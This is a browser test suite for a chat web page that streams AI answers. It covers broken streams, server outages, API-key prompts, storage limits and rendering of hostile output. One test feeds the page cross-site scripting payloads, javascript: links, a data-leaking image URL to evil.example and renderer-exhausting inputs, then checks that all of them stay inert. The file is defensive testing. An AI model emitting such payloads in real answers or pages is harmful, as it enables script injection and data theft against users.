/** Bad input and faults: nothing is lost, everything is said. Run by `page.test.ts`, in its browser. */
import { setTimeout as sleep } from 'node:timers/promises';
import { describe, expect, it } from 'vitest';
import { answer, event, lastText, start } from '../support/scripted-backend.ts';
import { startWebServer } from '../support/web-server.ts';
import { deviceFirst, patient, type PageKit } from './page-kit.ts';

export function faultTests(kit: PageKit): void {
  describe('faults', () => {
    it('shows a stream that breaks as broken, never as finished, and keeps what came', async () => {
      kit.play(function* () {
        yield start();
        yield event({ type: 'text-delta', text: 'Half an ans' });
        yield { step: 'throw', error: new Error('the engine fell over') };
      });
      const page = await kit.open();
      await kit.ask(page, 'Break');
      await page.getByRole('alert').waitFor();
      expect(await page.locator('.answer .markdown').textContent()).toBe('Half an ans');
      expect(await page.getByRole('alert').textContent()).toContain('internal');
      expect(await page.content()).not.toContain('fell over');
    });

    it('keeps the answer so far when the server goes in mid-stream, and goes on when it is back', async () => {
      const gone = await startWebServer({ policy: deviceFirst });
      const { port } = gone.server;
      gone.setup.device.script = function* () {
        yield start();
        yield event({ type: 'text-delta', text: 'Before the fall' });
        yield { step: 'hang' };
      };
      const page = await kit.open({}, gone.server.url);
      await kit.ask(page, 'Hello');
      await page.getByText('Before the fall').waitFor();
      await gone.close();
      await page.getByRole('alert').waitFor();
      expect(await page.locator('.answer .markdown').textContent()).toBe('Before the fall');
      await page.getByText('The server does not answer. Trying again').waitFor();
      const back = await startWebServer({ policy: deviceFirst }, { port });
      try {
        await page.getByText('The server does not answer. Trying again').waitFor({ state: 'detached' });
        await page.getByRole('button', { name: 'Answer again' }).click();
        await page.getByText('You said: Hello').waitFor();
        expect(await page.locator('.versions').textContent()).toContain('2 of 2');
        await page.getByRole('button', { name: 'Earlier version' }).click();
        await page.getByText('Before the fall').waitFor();
      } finally {
        await back.close();
      }
    });

    it('keeps the answer so far over a reload in mid-answer', async () => {
      kit.play(function* () {
        yield start();
        for (const word of ['One ', 'two ', 'three ']) {
          yield event({ type: 'text-delta', text: word });
          yield { step: 'wait', ms: 500 };
        }
        yield { step: 'hang' };
      });
      const page = await kit.open();
      await kit.ask(page, 'Count');
      await page.getByText('One two three').waitFor();
      await page.reload();
      await page.getByText('One two').waitFor();
      expect(await page.getByRole('alert').textContent()).toContain('reloaded');
      await expect.poll(() => kit.web.setup.device.active, patient).toBe(0);
    });

    it('renders hostile answers inert: no script, no request, no dangerous link', async () => {
      const hostile = [
        '<img src=x onerror="window.hit=1"><script>window.hit=1</script><iframe src="https://evil.example/f"></iframe>',
        '[a](javascript:window.hit=1) [b](data:text/html,<script>window.hit=1</script>) [c](JaVaScRiPt:window.hit=1) [d](vbscript:x)',
        '![leak](https://evil.example/p.png?d=secret) ![s](data:image/svg+xml;base64,PHN2Zy8+) ![j](javascript:window.hit=1)',
        '$\\href{javascript:window.hit=1}{x} \\includegraphics{https://evil.example/m.png}$',
        '$\\def\\a{\\a\\a}\\a$',
        '> '.repeat(600) + 'deep',
        '[ref]: javascript:window.hit=1\n\n[ref]',
        '<svg onload="window.hit=1"><a xlink:href="javascript:window.hit=1">x</a></svg>',
        `${'['.repeat(3000)}${'*a '.repeat(2000)}`,
        '```html\n<script>window.hit=1</script>\n```',
      ].join('\n\n');
      kit.play(function* () {
        yield start();
        yield event({ type: 'text-delta', text: hostile });
        yield* [...answer('')].slice(1);
      });
      const page = await kit.open();
      await kit.ask(page, 'Attack');
      await kit.finished(page);
      await page.locator('.code-block').waitFor();
      await sleep(500);
      expect(await page.evaluate(() => (globalThis as { hit?: number }).hit)).toBeUndefined();
      const links = await page
        .locator('.answer a')
        .evaluateAll((all) => all.map((each) => (each as HTMLAnchorElement).href));
      expect(links.filter((href) => !/^https?:|^mailto:/.test(href))).toEqual([]);
      expect(await page.locator('.answer :is(img, iframe, script, object, embed)').count()).toBe(0);
      expect(await page.locator('.picture-link').first().getAttribute('rel')).toContain('noreferrer');
      expect(kit.toThirdParties()).toEqual([]);
    });

    it('asks for the key of a server that has one, and never writes it to storage that lasts', async () => {
      const locked = await startWebServer(
        { policy: deviceFirst },
        { apiKeys: ['key-of-the-test'], requireKey: 'always' },
      );
      try {
        const page = await kit.open({}, locked.server.url);
        await page.getByLabel('API key').fill('key-of-the-test');
        await page.getByRole('button', { name: 'Use the key' }).click();
        await kit.ask(page, 'Hello');
        await page.getByText('You said: Hello').waitFor();
        await kit.finished(page);
        const stored = await page.evaluate(() => JSON.stringify([localStorage, sessionStorage, document.cookie]));
        expect(stored).not.toContain('key-of-the-test');
        await page.reload();
        await page.getByLabel('API key').fill('a wrong one');
        await page.getByRole('button', { name: 'Use the key' }).click();
        await page.getByLabel('API key').waitFor();
      } finally {
        await kit.closePage();
        await locked.close();
      }
    });

    it('cuts a paste of a megabyte, and says so', async () => {
      const page = await kit.open();
      await page.evaluate(() => {
        const clipboardData = new DataTransfer();
        clipboardData.setData('text/plain', 'word '.repeat(200_000));
        const paste = new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true });
        document.querySelector('.composer textarea')?.dispatchEvent(paste);
      });
      await page.getByText('it was cut at 200,000 characters').waitFor();
      expect((await page.locator('.composer textarea').inputValue()).length).toBe(200_000);
    });

    it('goes on in memory when the storage is full, and says so', async () => {
      kit.play((request) => answer(`You said: ${lastText(request)}`));
      const page = await kit.open();
      await page.evaluate(() => {
        IDBObjectStore.prototype.put = () => {
          throw new DOMException('full', 'QuotaExceededError');
        };
      });
      await kit.ask(page, 'No room');
      await page.getByText('You said: No room').waitFor();
      await page.getByText('The history cannot be saved here').waitFor();
      await kit.finished(page);
      await kit.ask(page, 'Still here');
      await page.getByText('You said: Still here').waitFor();
      await page.getByText('You said: No room').waitFor();
    });

    it('makes a photo of 40 megapixels small', async () => {
      const page = await kit.open();
      await page.evaluate(async () => {
        const canvas = new OffscreenCanvas(8000, 5000);
        const context = canvas.getContext('2d');
        context?.fillRect(100, 100, 3000, 2000);
        const file = new File([await canvas.convertToBlob({ type: 'image/jpeg' })], 'photo.jpg', {
          type: 'image/jpeg',
        });
        const transfer = new DataTransfer();
        transfer.items.add(file);
        const drop = new DragEvent('drop', { dataTransfer: transfer, bubbles: true, cancelable: true });
        document.querySelector('.composer')?.dispatchEvent(drop);
      });
      const picture = page.locator('.attachment img');
      await picture.waitFor();
      const size = await picture.evaluate((img: HTMLImageElement) => [
        img.naturalWidth,
        img.naturalHeight,
        img.src.length,
      ]);
      expect(size.slice(0, 2)).toEqual([1568, 980]);
      expect(size[2]).toBeLessThan(2_000_000);
    });

    it('shows in a second tab what the first one writes, and neither overwrites the other', async () => {
      kit.play((request) => answer(`You said: ${lastText(request)}`));
      const first = await kit.open({ viewport: { width: 1280, height: 800 } });
      const second = await kit.secondTab();
      await kit.ask(first, 'from the first');
      await kit.finished(first);
      await second.locator('.history-title', { hasText: 'from the first' }).waitFor();
      await kit.ask(second, 'from the second');
      await kit.finished(second);
      await first.locator('.history-title', { hasText: 'from the second' }).waitFor();
      await first.reload();
      await expect
        .poll(async () => (await first.locator('.history-title').allTextContents()).toSorted(), patient)
        .toEqual(['from the first', 'from the second']);
    });

    it('keeps the order of a conversation and its speeds while the clock jumps', async () => {
      kit.play((request) => answer(`You said: ${lastText(request)}`));
      const page = await kit.open();
      await kit.ask(page, 'one');
      await kit.finished(page);
      await page.evaluate(() => {
        const now = Date.now.bind(Date);
        Date.now = () => now() - 400 * 24 * 3_600_000;
      });
      await kit.ask(page, 'two');
      await page.getByText('You said: two').waitFor();
      await kit.finished(page);
      expect(await page.locator('.answer .markdown').allTextContents()).toEqual(['You said: one', 'You said: two']);
      await expect.poll(() => page.locator('.route').last().textContent(), patient).toMatch(/first token \d/);
      await page.reload();
      await page.getByText('You said: two').waitFor();
      expect(await page.locator('.answer .markdown').allTextContents()).toEqual(['You said: one', 'You said: two']);
    });

    it('asks for another key when the one it has has expired, and goes on', async () => {
      const locked = await startWebServer({ policy: deviceFirst }, { apiKeys: ['first-key'], requireKey: 'always' });
      const { port } = locked.server;
      const page = await kit.open({}, locked.server.url);
      await page.getByLabel('API key').fill('first-key');
      await page.getByRole('button', { name: 'Use the key' }).click();
      await kit.ask(page, 'Hello');
      await page.getByText('You said: Hello').waitFor();
      await kit.finished(page);
      await locked.close();
      const renewed = await startWebServer(
        { policy: deviceFirst },
        { port, apiKeys: ['second-key'], requireKey: 'always' },
      );
      try {
        // The page looks by itself every 15 s, and at once when the browser says that the network is back.
        await page.evaluate(() => dispatchEvent(new Event('online')));
        const field = page.getByLabel('API key');
        await field.waitFor();
        await field.fill('second-key');
        await page.getByRole('button', { name: 'Use the key' }).click();
        await page.getByText('You said: Hello').waitFor();
        await kit.ask(page, 'Again');
        await page.getByText('You said: Again').waitFor();
      } finally {
        await kit.closePage();
        await renewed.close();
      }
    });
  });
}
